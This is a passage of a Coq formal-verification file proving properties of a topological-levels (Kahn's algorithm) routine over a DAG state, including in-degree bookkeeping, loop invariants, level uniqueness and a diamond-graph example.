      destruct (AddNode s n) as [s2 [e|]] eqn:E2; [done|].
      injection E as <-.
      replace s2 with (AddNode s n).1 by (by rewrite E2).
      apply Constructed_node; [done..|]. by rewrite E2.
    + destruct (AddEdge s d n) as [[s2 [e|]]|] eqn:E2; try done.
      injection E as <-. by eapply Constructed_edge.
Qed.

(** *** One wave of TopoLevels *)

Lemma inDegOf_insert (m : gmap string Z) x v y :
  inDegOf (<[x := v]> m) y = if decide (x = y) then v else inDegOf m y.
Proof.
  unfold inDegOf. rewrite lookup_insert. by case_decide.
Qed.

Lemma releaseBlocked_step (m : gmap string Z) (nx : list string) b :
  releaseBlocked (m, nx) b =
  (<[b := inDegOf m b - 1]> m,
   if bool_decide (inDegOf m b = 1) then nx ++ [b] else nx).
Proof.
  unfold releaseBlocked; simpl. rewrite inDegOf_insert, decide_True by done.
  do 2 case_bool_decide; (reflexivity || lia).
Qed.

(** The whole effect of the decrements for the list [B] of blocked ids:
    every counter drops by the number of occurrences of its id, and the
    ids appended to the next queue are those whose counter was positive
    and reached zero, each once. *)
Lemma releaseBlocked_fold (B : list string) :
  forall (m : gmap string Z) (nx : list string),
  (forall x, inDegOf (foldl releaseBlocked (m, nx) B).1 x
             = inDegOf m x - Z.of_nat (occ x B)) /\
  exists added,
    (foldl releaseBlocked (m, nx) B).2 = nx ++ added /\ NoDup added /\
    forall x, x ∈ added <-> 0 < inDegOf m x <= Z.of_nat (occ x B).
Proof.
  induction B as [|b B IH]; intros m nx; simpl.
  - split; [intros x; unfold occ; simpl; lia|].
    exists []. rewrite app_nil_r. split; [done|]. split; [constructor|].
    intros x. unfold occ; simpl. split; [by intros ?%elem_of_nil | lia].
  - rewrite releaseBlocked_step.
    set (m1 := <[b := inDegOf m b - 1]> m).
    assert (Hocc : forall x, Z.of_nat (occ x (b :: B)) =
                     (if decide (b = x) then 1 else 0) + Z.of_nat (occ x B)).
    { intros x. unfold occ; simpl. case_bool_decide; case_decide; try done; lia. }
    assert (Hm1 : forall x, inDegOf m1 x =
                    inDegOf m x - (if decide (b = x) then 1 else 0)).
    { intros x. unfold m1. rewrite inDegOf_insert. case_decide; subst; lia. }
    destruct (bool_decide_reflect (inDegOf m b = 1)) as [Hb|Hb].
    + destruct (IH m1 (nx ++ [b])) as (Hdeg & added & Hnext & Hnd & Hadded).
      split; [intros x; rewrite Hdeg, Hocc, Hm1; lia|].
      exists (b :: added). split; [by rewrite Hnext, <- app_assoc|].
      split.
      * constructor; [|done]. rewrite Hadded, Hm1, decide_True by done. lia.
      * intros x. rewrite elem_of_cons, Hadded, Hocc, Hm1.
        case_decide; subst.
        -- split; [intros _; lia | intros _; by left].
        -- split; [intros [?|?]; [done|lia] | intros ?; right; lia].
    + destruct (IH m1 nx) as (Hdeg & added & Hnext & Hnd & Hadded).
      split; [intros x; rewrite Hdeg, Hocc, Hm1; lia|].
      exists added. split; [done|]. split; [done|].
      intros x. rewrite Hadded, Hocc, Hm1. case_decide; subst; lia.
Qed.

Lemma blocksOf_withLevel st q k x :
  blocksOf (updNode q (withLevel k) st) x = blocksOf st x.
Proof.
  unfold blocksOf. rewrite lookup_updNode. case_decide; [|done].
  by destruct (Nodes st !! x).
Qed.

Lemma flat_map_blocksOf_withLevel st q k Q :
  flat_map (blocksOf (updNode q (withLevel k) st)) Q = flat_map (blocksOf st) Q.
Proof.
  induction Q as [|x Q IH]; simpl; [done|].
  by rewrite IH, blocksOf_withLevel.
Qed.

(** What the loop over one queue computes. *)
Lemma wave_spec k Q :
  forall w w', forEach (processNode k) w Q = Some w' ->
    (wInDeg w', wNext w') =
      foldl releaseBlocked (wInDeg w, wNext w) (flat_map (blocksOf (wState w)) Q) /\
    wNodes w' = wNodes w ++ Q /\
    wProcessed w' = wProcessed w + Z.of_nat (length Q) /\
    forall x, Nodes (wState w') !! x =
      if bool_decide (x ∈ Q) then withLevel k <$> Nodes (wState w) !! x
      else Nodes (wState w) !! x.
Proof.
  induction Q as [|q Q IH]; intros w w'.
  - intros [= <-]. simpl. rewrite app_nil_r.
    split; [done|]. split; [done|]. split; [lia|done].
  - cbn [forEach]. unfold processNode at 1.
    destruct (Nodes (wState w) !! q) as [node|] eqn:Hq; [|done].
    intros Hrest. apply IH in Hrest as (Hrel & Hnodes & Hproc & Hst).
    cbn [wState wInDeg wNext wNodes wProcessed] in *.
    split; [|split; [|split]].
    + rewrite Hrel, flat_map_blocksOf_withLevel. cbn [flat_map].
      rewrite foldl_app. unfold blocksOf at 2. rewrite Hq. simpl.
      by destruct (foldl releaseBlocked (wInDeg w, wNext w) (Blocks node)).
    + by rewrite Hnodes, <- app_assoc.
    + rewrite Hproc. cbn [length]. lia.
    + intros x. rewrite Hst, lookup_updNode.
      destruct (decide (q = x)) as [->|Hne].
      * rewrite (bool_decide_eq_true_2 (x ∈ x :: Q)) by left.
        case_bool_decide; [|done].
        destruct (Nodes (wState w) !! x); [simpl|done]. done.
      * case_bool_decide as HQ.
        -- rewrite bool_decide_eq_true_2; [done | by right].
        -- rewrite bool_decide_eq_false_2; [done|].
           by intros [?|?]%elem_of_cons.
Qed.

Lemma wave_returns k Q w :
  (forall q, q ∈ Q -> is_Some (Nodes (wState w) !! q)) ->
  exists w', forEach (processNode k) w Q = Some w'.
Proof.
  intros HQ.
  destruct (forEach_invariant (processNode k)
              (fun w => forall q, q ∈ Q -> is_Some (Nodes (wState w) !! q)) Q)
    with (s := w) as (w' & Hw' & _); [|done|eauto].
  intros w0 q Hq Hinv. unfold processNode.
  destruct (Hinv q Hq) as [node ->]. eexists. split; [done|].
  intros q' Hq'. cbn [wState]. rewrite lookup_updNode.
  case_decide; [|by apply Hinv]. subst q'. rewrite fmap_is_Some. by apply Hinv.
Qed.

(** The decrements of a wave, counted on the side of the dependent node. *)
Lemma countIf_in_nil l : countIf (fun d => bool_decide (d ∈ @nil string)) l = O.
Proof.
  apply countIf_zero. intros x _. apply bool_decide_eq_false.
  apply not_elem_of_nil.
Qed.

Lemma occ_flat_blocks s Q x nx :
  WellFormed s -> NoDup Q -> (forall q, q ∈ Q -> q ∈ dom (Nodes s)) ->
  Nodes s !! x = Some nx ->
  occ x (flat_map (blocksOf s) Q) =
  countIf (fun d => bool_decide (d ∈ Q)) (DependsOn nx).
Proof.
  intros Hwf Hnd Hst Hx. induction Hnd as [|q Q Hq Hnd IH]; simpl.
  - by rewrite countIf_in_nil.
  - rewrite occ_app. rewrite IH; [|intros q' Hq'; apply Hst; by right].
    rewrite countIf_in_cons by done. f_equal.
    pose proof (Hst q ltac:(left)) as [nq Hnq]%elem_of_dom.
    unfold blocksOf. rewrite Hnq. simpl. by eapply wf_agree.
Qed.

Lemma elem_of_flat_blocks s Q x :
  x ∈ flat_map (blocksOf s) Q -> exists q nq, q ∈ Q /\ Nodes s !! q = Some nq /\ x ∈ Blocks nq.
Proof.
  induction Q as [|q Q IH]; simpl; [by intros ?%elem_of_nil|].
  intros [Hx|Hx]%elem_of_app.
  - unfold blocksOf in Hx. destruct (Nodes s !! q) as [nq|] eqn:Hq; simpl in Hx.
    + exists q, nq. split; [left | done].
    + by apply elem_of_nil in Hx.
  - destruct (IH Hx) as (q' & nq & ? & ? & ?). exists q', nq. split; [by right | done].
Qed.

(** *** The levels placed so far *)

Lemma placed_app levels lv :
  placed (levels ++ [lv]) = placed levels ++ LevelNodes lv.
Proof.
  unfold placed. rewrite fmap_app, concat_app. simpl. by rewrite app_nil_r.
Qed.

Lemma placedBefore_length levels : placedBefore levels (length levels) = placed levels.
Proof. unfold placedBefore, placed. by rewrite firstn_all. Qed.

Lemma placedBefore_app levels lv k :
  (k <= length levels)%nat ->
  placedBefore (levels ++ [lv]) k = placedBefore levels k.
Proof. intros Hk. unfold placedBefore. by rewrite take_app_le. Qed.

Lemma elem_of_placed levels x :
  x ∈ placed levels <-> exists k lv, levels !! k = Some lv /\ x ∈ LevelNodes lv.
Proof.
  unfold placed. induction levels as [|l levels IH]; simpl.
  - split; [by intros ?%elem_of_nil | by intros (k & lv & Hk & _)].
  - rewrite elem_of_app, IH. split.
    + intros [Hx|(k & lv & Hk & Hx)]; [by exists O, l | by exists (S k), lv].
    + intros ([|k] & lv & Hk & Hx); simpl in Hk.
      * injection Hk as <-. by left.
      * right. eauto.
Qed.

Lemma placedBefore_placed levels k x :
  x ∈ placedBefore levels k -> x ∈ placed levels.
Proof.
  unfold placedBefore. intros (j & lv & Hj & Hx)%elem_of_placed.
  apply elem_of_placed. exists j, lv. split; [|done].
  apply lookup_take_Some in Hj. tauto.
Qed.

(** *** The outer loop of TopoLevels *)

Lemma NoDup_length_le_size (l : list string) (X : gset string) :
  NoDup l -> (forall x, x ∈ l -> x ∈ X) -> (length l <= size X)%nat.
Proof.
  intros Hnd Hsub. rewrite <- (size_list_to_set (C := gset string) l Hnd).
  apply subseteq_size. intros x Hx. apply Hsub. by apply elem_of_list_to_set in Hx.
Qed.

Lemma NoDup_length_eq_size (l : list string) (X : gset string) :
  NoDup l -> (forall x, x ∈ l <-> x ∈ X) -> length l = size X.
Proof.
  intros Hnd Hiff. rewrite <- (size_list_to_set (C := gset string) l Hnd).
  f_equal. apply set_eq. intros x. rewrite elem_of_list_to_set. apply Hiff.
Qed.

Lemma sameGraph_blocksOf s st x : sameGraph s st -> blocksOf st x = blocksOf s x.
Proof. intros Hg. unfold blocksOf. by destruct (Hg x) as [-> _]. Qed.

Lemma sameGraph_stored s st x :
  sameGraph s st -> is_Some (Nodes st !! x) <-> is_Some (Nodes s !! x).
Proof.
  intros Hg. destruct (Hg x) as [Hb _].
  rewrite <- (fmap_is_Some Blocks (Nodes st !! x)), Hb. apply fmap_is_Some.
Qed.

Section KahnFacts.
Context (s : DAGState) (fuel : nat) (st : DAGState) (inDeg : gmap string Z)
        (queue : list string) (levels : list ParallelLevel) (processed : Z).
Context (Hinv : KahnInv s fuel st inDeg queue levels processed).

Lemma kahn_placed_wave x :
  x ∈ placed levels -> exists k, isWave s (placedBefore levels k) x.
Proof.
  intros (k & lv & Hk & Hx)%elem_of_placed. exists k.
  by apply (ki_levels _ _ _ _ _ _ _ Hinv k lv Hk).
Qed.

Lemma kahn_placed_stored x : x ∈ placed levels -> x ∈ dom (Nodes s).
Proof.
  intros (k & n & Hn & _)%kahn_placed_wave. apply elem_of_dom; eauto.
Qed.

Lemma kahn_placed_closed x nx d :
  x ∈ placed levels -> Nodes s !! x = Some nx -> d ∈ DependsOn nx ->
  d ∈ placed levels.
Proof.
  intros (k & n & Hn & _ & Hdeps)%kahn_placed_wave Hx Hd.
  rewrite Hx in Hn. injection Hn as <-.
  eapply placedBefore_placed. by apply Hdeps.
Qed.

Lemma kahn_queue_fresh x : x ∈ queue -> x ∉ placed levels.
Proof.
  intros (n & _ & Hx & _)%(ki_queue _ _ _ _ _ _ _ Hinv). done.
Qed.

Lemma kahn_queue_stored x : x ∈ queue -> x ∈ dom (Nodes s).
Proof.
  intros (n & Hn & _)%(ki_queue _ _ _ _ _ _ _ Hinv). apply elem_of_dom; eauto.
Qed.

Lemma kahn_all_nodup : NoDup (placed levels ++ queue).
Proof.
  apply NoDup_app. split; [apply (ki_nodup _ _ _ _ _ _ _ Hinv)|].
  split; [|apply (ki_queue_nodup _ _ _ _ _ _ _ Hinv)].
  intros x Hx Hq. by apply kahn_queue_fresh in Hq.
Qed.

Lemma kahn_bound : (length (placed levels) + length queue <= size (Nodes s))%nat.
Proof.
  rewrite <- length_app, <- size_dom.
  apply NoDup_length_le_size; [apply kahn_all_nodup|].
  intros x [?|?]%elem_of_app; [by apply kahn_placed_stored | by apply kahn_queue_stored].
Qed.
End KahnFacts.

(** One iteration of the outer loop re-establishes the invariant. *)
Lemma kahn_step s fuel st inDeg queue levels processed w :
  WellFormed s -> queue <> [] ->
  KahnInv s (S fuel) st inDeg queue levels processed ->
  forEach (processNode (Z.of_nat (length levels)))
          (mkWave st inDeg [] processed []) queue = Some w ->
  KahnInv s fuel (wState w) (wInDeg w) (wNext w)
          (levels ++ [mkLevel (Z.of_nat (length levels)) (wNodes w)])
          (wProcessed w).
Proof.
  intros Hwf Hne Hinv Hw.
  apply wave_spec in Hw as (Hrel & Hnodes & Hproc & Hst).
  cbn [wState wInDeg wNext wNodes wProcessed] in *. simpl in Hnodes.
  pose proof (ki_graph _ _ _ _ _ _ _ Hinv) as Hg.
  rewrite (flat_map_ext _ (blocksOf s)) in Hrel
    by (intros a; by apply sameGraph_blocksOf).
  set (B := flat_map (blocksOf s) queue) in *.
  destruct (releaseBlocked_fold B inDeg []) as (Hdeg & added & Hadd & Hnd & Hmem).
  rewrite <- Hrel in Hdeg, Hadd. simpl in Hdeg, Hadd. subst added.
  set (P := placed levels) in *.
  assert (HP' : placed (levels ++ [mkLevel (Z.of_nat (length levels)) (wNodes w)])
                = P ++ queue) by (by rewrite placed_app, Hnodes).
  assert (Hfresh : forall x, x ∈ queue -> x ∉ P)
    by (intros x; by eapply kahn_queue_fresh).
  assert (Hcount : forall x nx, Nodes s !! x = Some nx ->
    inDegOf inDeg x =
      Z.of_nat (countIf (fun d => bool_decide (d ∈ queue)) (DependsOn nx)
                + countIf (fun d => bool_decide (d ∉ P ++ queue)) (DependsOn nx)) /\
    occ x B = countIf (fun d => bool_decide (d ∈ queue)) (DependsOn nx)).
  { intros x nx Hx. split.
    - rewrite (ki_indeg _ _ _ _ _ _ _ Hinv x nx Hx).
      by rewrite (countIf_not_in_app P queue).
    - apply occ_flat_blocks; [done| |intros q Hq; by eapply kahn_queue_stored|done].
      apply (ki_queue_nodup _ _ _ _ _ _ _ Hinv). }
  split.
  - intros x. rewrite Hst. destruct (Hg x) as [<- <-].
    case_bool_decide; [|done]. by destruct (Nodes st !! x).
  - rewrite HP'. by eapply kahn_all_nodup.
  - done.
  - intros x. rewrite HP', Hmem. split.
    + intros [Hpos Hle].
      assert (Hocc : (0 < occ x B)%nat) by lia.
      apply occ_pos, elem_of_flat_blocks in Hocc as (q & nq & Hq & Hnq & Hxb).
      pose proof (wf_blocks_stored s Hwf q nq x Hnq Hxb) as [nx Hx]%elem_of_dom.
      destruct (Hcount x nx Hx) as [Hin Hoc]. rewrite Hin, Hoc in *.
      exists nx. split; [done|].
      assert (exists d, d ∈ DependsOn nx /\ d ∈ queue) as (d & Hd & Hdq).
      { destruct (proj1 (countIf_pos (fun d => bool_decide (d ∈ queue)) (DependsOn nx)))
          as (d & Hd & Hdq%bool_decide_eq_true); [lia | eauto]. }
      split.
      * intros [HxP|HxQ]%elem_of_app.
        -- apply (Hfresh d Hdq). by eapply kahn_placed_closed.
        -- apply (ki_queue _ _ _ _ _ _ _ Hinv) in HxQ as (nx' & Hx' & _ & Hdeps).
           rewrite Hx in Hx'. injection Hx' as <-.
           by apply (Hfresh d Hdq), Hdeps.
      * intros d' Hd'.
        assert (countIf (fun d => bool_decide (d ∉ P ++ queue)) (DependsOn nx) = O)
          as Hz by lia.
        pose proof (proj1 (countIf_zero _ _) Hz d' Hd') as Hf.
        apply bool_decide_eq_false in Hf. by apply dec_stable in Hf.
    + intros (nx & Hx & Hnew & Hdeps).
      destruct (Hcount x nx Hx) as [Hin Hoc]. rewrite Hin, Hoc.
      assert (countIf (fun d => bool_decide (d ∉ P ++ queue)) (DependsOn nx) = O)
        as Hz.
      { apply countIf_zero. intros d Hd. apply bool_decide_eq_false.
        intros Hn. by apply Hn, Hdeps. }
      rewrite Hz.
      assert (0 < countIf (fun d => bool_decide (d ∈ queue)) (DependsOn nx))%nat;
        [|lia].
      destruct (countIf (fun d => bool_decide (d ∈ queue)) (DependsOn nx)) eqn:E;
        [|lia].
      exfalso. apply Hnew, elem_of_app. right.
      apply (ki_queue _ _ _ _ _ _ _ Hinv). exists nx. split; [done|].
      split; [intros HxP; apply Hnew, elem_of_app; by left|].
      intros d Hd. pose proof (Hdeps d Hd) as [?|Hdq]%elem_of_app; [done|].
      pose proof (proj1 (countIf_zero _ _) E d Hd) as Hf.
      apply bool_decide_eq_false in Hf. done.
  - intros x nx Hx. rewrite HP', Hdeg.
    destruct (Hcount x nx Hx) as [-> ->]. lia.
  - rewrite Hproc, HP', length_app, (ki_processed _ _ _ _ _ _ _ Hinv). fold P. lia.
  - intros k lv [Hk|[Hk Hlv]]%lookup_app_Some.
    + rewrite placedBefore_app
        by (apply lookup_lt_Some in Hk; lia).
      by apply (ki_levels _ _ _ _ _ _ _ Hinv).
    + destruct (k - length levels)%nat eqn:Ek; [|by destruct n].
      injection Hlv as <-. assert (k = length levels) as -> by lia.
      split; [done|]. simpl.
      rewrite placedBefore_app, placedBefore_length by lia.
      intros id. rewrite Hnodes. apply (ki_queue _ _ _ _ _ _ _ Hinv).
  - intros k lv id [Hk|[Hk Hlv]]%lookup_app_Some Hid.
    + destruct (ki_level_field _ _ _ _ _ _ _ Hinv k lv id Hk Hid) as (n & Hn & Hl).
      exists n. split; [|done]. rewrite Hst, bool_decide_eq_false_2; [done|].
      intros Hq. apply (Hfresh id Hq). apply elem_of_placed. eauto.
    + destruct (k - length levels)%nat eqn:Ek; [|by destruct n].
      injection Hlv as <-. assert (k = length levels) as -> by lia.
      simpl in Hid. rewrite Hnodes in Hid.
      assert (is_Some (Nodes st !! id)) as [n Hn].
      { apply (sameGraph_stored s st id Hg), elem_of_dom.
        by eapply kahn_queue_stored. }
      exists (withLevel (Z.of_nat (length levels)) n).
      split; [|done]. by rewrite Hst, bool_decide_eq_true_2, Hn.
  - rewrite HP', length_app. pose proof (ki_fuel _ _ _ _ _ _ _ Hinv). fold P in H.
    destruct queue; [done|]. simpl. lia.
Qed.

(** When the queue is empty every stored node has been placed: a node
    that is not placed has a dependency that is not placed, and the
    dependency relation is well founded. *)
Lemma kahn_finish s fuel st inDeg levels processed :
  WellFormed s -> KahnInv s fuel st inDeg [] levels processed ->
  forall x, x ∈ dom (Nodes s) -> x ∈ placed levels.
Proof.
  intros Hwf Hinv x. induction (wf_acc s Hwf x) as [x _ IH].
  intros [nx Hx]%elem_of_dom.
  destruct (decide (x ∈ placed levels)) as [|Hnp]; [done|].
  assert (x ∈ @nil string) as Habs; [|by apply elem_of_nil in Habs].
  apply (ki_queue _ _ _ _ _ _ _ Hinv). exists nx. split; [done|]. split; [done|].
  intros d Hd. apply IH; [by exists nx | by eapply wf_deps_stored].
Qed.

Lemma sameGraph_size s st : sameGraph s st -> size (Nodes st) = size (Nodes s).
Proof.
  intros Hg. rewrite <- !size_dom. f_equal. apply set_eq. intros x.
  rewrite !elem_of_dom. by apply sameGraph_stored.
Qed.

Lemma topoLoop_spec s :
  WellFormed s ->
  forall fuel st inDeg queue levels processed,
    KahnInv s fuel st inDeg queue levels processed ->
    exists levels' st',
      topoLoop fuel st inDeg queue levels processed = Some (TopoOK levels' st') /\
      TopoPost s levels' st'.
Proof.
  intros Hwf. induction fuel as [|fuel IH];
    intros st inDeg queue levels processed Hinv.
  { pose proof (ki_fuel _ _ _ _ _ _ _ Hinv).
    pose proof (kahn_bound _ _ _ _ _ _ _ Hinv). lia. }
  pose proof (ki_graph _ _ _ _ _ _ _ Hinv) as Hg.
  destruct queue as [|q Q]; cbn [topoLoop].
  - pose proof (kahn_finish _ _ _ _ _ _ Hwf Hinv) as Hall.
    assert (processed = Z.of_nat (size (Nodes st))) as Hp.
    { rewrite (ki_processed _ _ _ _ _ _ _ Hinv), (sameGraph_size s st Hg).
      rewrite <- size_dom. f_equal.
      apply NoDup_length_eq_size; [apply (ki_nodup _ _ _ _ _ _ _ Hinv)|].
      intros x. split; [by eapply kahn_placed_stored | apply Hall]. }
    rewrite bool_decide_eq_false_2 by (intros Hn; by apply Hn).
    eexists _, _. split; [done|]. split; [done|]. split; [done|].
    split; [apply (ki_levels _ _ _ _ _ _ _ Hinv)|].
    intros id n Hid.
    assert (id ∈ placed levels) as (k & lv & Hk & Hin)%elem_of_placed
      by (apply Hall, elem_of_dom; eauto).
    destruct (ki_level_field _ _ _ _ _ _ _ Hinv k lv id Hk Hin) as (n' & Hn' & Hl).
    by exists k, lv, n'.
  - destruct (wave_returns (Z.of_nat (length levels)) (q :: Q)
                (mkWave st inDeg [] processed [])) as [w Hw].
    { intros x Hx. cbn [wState]. apply (sameGraph_stored s st x Hg), elem_of_dom.
      by eapply kahn_queue_stored. }
    rewrite Hw. apply IH.
    by apply (kahn_step s fuel st inDeg (q :: Q) levels processed w Hwf).
Qed.

(** *** Consequences of the wave characterization *)

Lemma elem_of_placedBefore levels k x :
  x ∈ placedBefore levels k <->
  exists j lv, (j < k)%nat /\ levels !! j = Some lv /\ x ∈ LevelNodes lv.
Proof.
  unfold placedBefore. fold (placed (take k levels)). rewrite elem_of_placed.
  split.
  - intros (j & lv & [Hj Hlt]%lookup_take_Some & Hx). by exists j, lv.
  - intros (j & lv & Hlt & Hj & Hx). exists j, lv. split; [|done].
    by apply lookup_take_Some.
Qed.

(** A node is in one level only. *)
Lemma TopoPost_level_unique s levels s' j k lj lk x :
  TopoPost s levels s' ->
  levels !! j = Some lj -> x ∈ LevelNodes lj ->
  levels !! k = Some lk -> x ∈ LevelNodes lk -> j = k.
Proof.
  intros (_ & _ & Hlv & _) Hj Hxj Hk Hxk.
  destruct (Hlv j lj Hj) as [_ Hwj]. destruct (Hlv k lk Hk) as [_ Hwk].
  pose proof (proj1 (Hwj x) Hxj) as (_ & _ & Hnj & _).
  pose proof (proj1 (Hwk x) Hxk) as (_ & _ & Hnk & _).
  destruct (Nat.lt_trichotomy j k) as [Hlt|[?|Hlt]]; [|done|].
  - destruct Hnk. apply elem_of_placedBefore. by exists j, lj.
  - destruct Hnj. apply elem_of_placedBefore. by exists k, lk.
Qed.

(** Every dependency of a node has a strictly lower [Level]. *)
Lemma TopoPost_dependency_lower s levels s' id n d :
  TopoPost s levels s' ->
  Nodes s' !! id = Some n -> d ∈ DependsOn n ->
  exists nd, Nodes s' !! d = Some nd /\ Level nd < Level n.
Proof.
  intros Hpost Hid Hd. pose proof Hpost as (_ & Hg & Hlv & Hall).
  destruct (Hg id) as [_ Hdeps]. rewrite Hid in Hdeps.
  destruct (Nodes s !! id) as [n0|] eqn:Hid0; [|discriminate].
  injection Hdeps as Hdeps.
  destruct (Hall id n0 Hid0) as (k & lk & n' & Hk & Hink & Hid' & Hlk).
  rewrite Hid in Hid'. injection Hid' as <-.
  destruct (Hlv k lk Hk) as [_ Hwk].
  apply Hwk in Hink as (n1 & Hn1 & _ & Hbefore).
  rewrite Hid0 in Hn1. injection Hn1 as <-.
  rewrite Hdeps in Hd. apply Hbefore in Hd.
  apply elem_of_placedBefore in Hd as (j & lj & Hlt & Hj & Hinj).
  destruct (Hlv j lj Hj) as [_ Hwj].
  pose proof (proj1 (Hwj d) Hinj) as (nd0 & Hnd0 & _).
  destruct (Hall d nd0 Hnd0) as (j' & lj' & nd & Hj' & Hinj' & Hnd & Hlj').
  assert (j = j') as <- by (by eapply TopoPost_level_unique).
  exists nd. split; [done|]. lia.
Qed.

(** *** TopoLevels on constructed states *)

(** C2. On every state built from [NewDAGState] by successful [AddNode]
    calls (of nodes without adjacency lists of their own) and successful
    [AddEdge] calls, and for every order in which the runtime may
    enumerate the map, [TopoLevels] returns levels and no error. The
    nodes of level [k] are exactly the stored nodes that are in no
    earlier level and whose every dependency is in an earlier level (so
    level 0 is the nodes without dependencies); every stored node is in
    the level that its [Level] field names, and the [Level] of each of
    its dependencies is strictly lower; [MaxLevel] is the number of
    levels minus one; the adjacency lists are as before. *)
Theorem TopoLevels_constructed (s : DAGState) (order : list string) :
  Constructed s -> keyOrder s order ->
  exists levels s',
    TopoLevels order s = Some (TopoOK levels s') /\
    MaxLevel s' = Z.of_nat (length levels) - 1 /\
    sameGraph s s' /\
    (forall k lv, levels !! k = Some lv ->
       LevelIndex lv = Z.of_nat k /\
       forall id, id ∈ LevelNodes lv <-> isWave s (placedBefore levels k) id) /\
    (forall id n, Nodes s !! id = Some n ->
       exists k lv n', levels !! k = Some lv /\ id ∈ LevelNodes lv /\
                       Nodes s' !! id = Some n' /\ Level n' = Z.of_nat k) /\
    (forall id n d, Nodes s' !! id = Some n -> d ∈ DependsOn n ->
       exists nd, Nodes s' !! d = Some nd /\ Level nd < Level n).
Proof.
  intros Hc [Hnd Hkeys]. apply Constructed_WellFormed in Hc as Hwf.
  unfold TopoLevels.
  cut (exists levels s',
         topoLoop (S (size (Nodes s))) s
           ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s)
           (filter (fun id =>
              ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s) !! id
              = Some 0) order) [] 0 = Some (TopoOK levels s') /\
         TopoPost s levels s').
  { intros (levels & s' & Hrun & Hpost). exists levels, s'.
    split; [done|]. pose proof Hpost as (? & ? & ? & ?).
    repeat (split; [done|]).
    intros id n d. by apply (TopoPost_dependency_lower s levels s'). }
  apply (topoLoop_spec s Hwf).
  assert (Hdeg : forall x,
    ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s) !! x = Some 0 <->
    exists n, Nodes s !! x = Some n /\ DependsOn n = []).
  { intros x. rewrite lookup_fmap.
    destruct (Nodes s !! x) as [n|]; simpl; [|naive_solver].
    split.
    - intros [= H0]. exists n. split; [done|].
      destruct (DependsOn n); [done | simpl in H0; lia].
    - intros (n' & [= <-] & ->). done. }
  split.
  - apply sameGraph_refl.
  - constructor.
  - by apply NoDup_filter.
  - intros x. rewrite list_elem_of_filter, Hdeg, Hkeys. split.
    + intros [(n & Hn & Hd) _]. exists n. split; [done|].
      split; [apply not_elem_of_nil|]. rewrite Hd. by intros d ?%elem_of_nil.
    + intros (n & Hn & _ & Hd). split; [|apply elem_of_dom; eauto].
      exists n. split; [done|].
      destruct (DependsOn n) as [|d l]; [done|].
      specialize (Hd d ltac:(left)). by apply elem_of_nil in Hd.
  - intros x nx Hx. unfold inDegOf. rewrite lookup_fmap, Hx. simpl.
    by rewrite <- countIf_all.
  - done.
  - intros k lv Hk. by rewrite lookup_nil in Hk.
  - intros k lv id Hk. by rewrite lookup_nil in Hk.
  - simpl. lia.
Qed.

Lemma diamond_constructed : Constructed diamond.
Proof.
  apply (replay_Constructed diamondScript
           (NewDAGState "kv-000000" "test-session" "build payment handler")).
  - constructor.
  - vm_compute; reflexivity.
Qed.

Lemma diamond_keyOrder : keyOrder diamond ["a"; "b"; "c"; "d"; "e"].
Proof.
  split.
  - repeat (constructor; [set_solver|]). constructor.
  - intros id. replace (dom (Nodes diamond))
      with ({["a"; "b"; "c"; "d"; "e"]} : gset string) by (vm_compute; reflexivity).
    set_solver.
Qed.

Lemma TopoLevels_constructed_witness :
  exists levels s',
    TopoLevels ["a"; "b"; "c"; "d"; "e"] diamond = Some (TopoOK levels s') /\
    MaxLevel s' = Z.of_nat (length levels) - 1 /\
    sameGraph diamond s' /\
    (forall k lv, levels !! k = Some lv ->
       LevelIndex lv = Z.of_nat k /\
       forall id, id ∈ LevelNodes lv <->
                  isWave diamond (placedBefore levels k) id) /\
    (forall id n, Nodes diamond !! id = Some n ->
       exists k lv n', levels !! k = Some lv /\ id ∈ LevelNodes lv /\
                       Nodes s' !! id = Some n' /\ Level n' = Z.of_nat k) /\
    (forall id n d, Nodes s' !! id = Some n -> d ∈ DependsOn n ->
       exists nd, Nodes s' !! d = Some nd /\ Level nd < Level n).
Proof.
  apply (TopoLevels_constructed diamond ["a"; "b"; "c"; "d"; "e"]).
  - exact diamond_constructed.
  - exact diamond_keyOrder.
Defined.

(** The diamond of the test: three levels {a, b}, {c, d}, {e} and
    MaxLevel 2. *)
Example TopoLevels_diamond :
  exists s',
    TopoLevels ["a"; "b"; "c"; "d"; "e"] diamond =
      Some (TopoOK [mkLevel 0 ["a"; "b"]; mkLevel 1 ["c"; "d"]; mkLevel 2 ["e"]] s')
    /\ MaxLevel s' = 2.
Proof. eexists. split; vm_compute; reflexivity. Qed.

(** *** Building the graph *)

(** X1. [AddNode] keeps ids unique. A node whose id is stored is rejected
    and the state is as before. A node with a new id is stored under its
    id, with the status pending when it has none, the other nodes are
    untouched, and from then on every node with this id is rejected. *)
Theorem AddNode_keeps_ids_unique (s : DAGState) (n : Node) :
  (is_Some (Nodes s !! ID n) ->
     AddNode s n = (s, Some ("duplicate node: " ++ ID n)%string)) /\
  (Nodes s !! ID n = None ->
     (AddNode s n).2 = None /\
     Nodes (AddNode s n).1 !! ID n =
       Some (if bool_decide (Status n = "") then withStatus StatusPending n else n) /\
     (forall id, id <> ID n -> Nodes (AddNode s n).1 !! id = Nodes s !! id) /\
     forall m, ID m = ID n ->
       AddNode (AddNode s n).1 m
         = ((AddNode s n).1, Some ("duplicate node: " ++ ID n)%string)).
Proof.
  unfold AddNode at 1 2 3 4. split.
  - intros [m Hm]. by rewrite Hm.
  - intros Hn. rewrite Hn. cbn [fst snd Nodes withNodes].
    split; [done|]. split; [by rewrite lookup_insert_eq|].
    split; [intros id Hid; by rewrite lookup_insert_ne|].
    intros m Hm. unfold AddNode. rewrite Hn. cbn [fst snd Nodes withNodes].
    by rewrite Hm, lookup_insert_eq.
Qed.

Lemma AddNode_keeps_ids_unique_witness :
  AddNode diamondNodes (testNode "a" "again" "" "")
    = (diamondNodes, Some ("duplicate node: " ++ ID (testNode "a" "again" "" ""))%string).
Proof.
  apply (proj1 (AddNode_keeps_ids_unique diamondNodes (testNode "a" "again" "" ""))).
  vm_compute. eexists. reflexivity.
Defined.

Lemma statusOf_updNode_keep s id f x :
  (forall n, Status (f n) = Status n) ->
  statusOf (updNode id f s) x = statusOf s x.
Proof.
  intros Hf. unfold statusOf. rewrite lookup_updNode.
  case_decide; [|done]. destruct (Nodes s !! x); simpl; [|done]. by rewrite Hf.
Qed.

Lemma dom_updNode s id f : dom (Nodes (updNode id f s)) = dom (Nodes s).
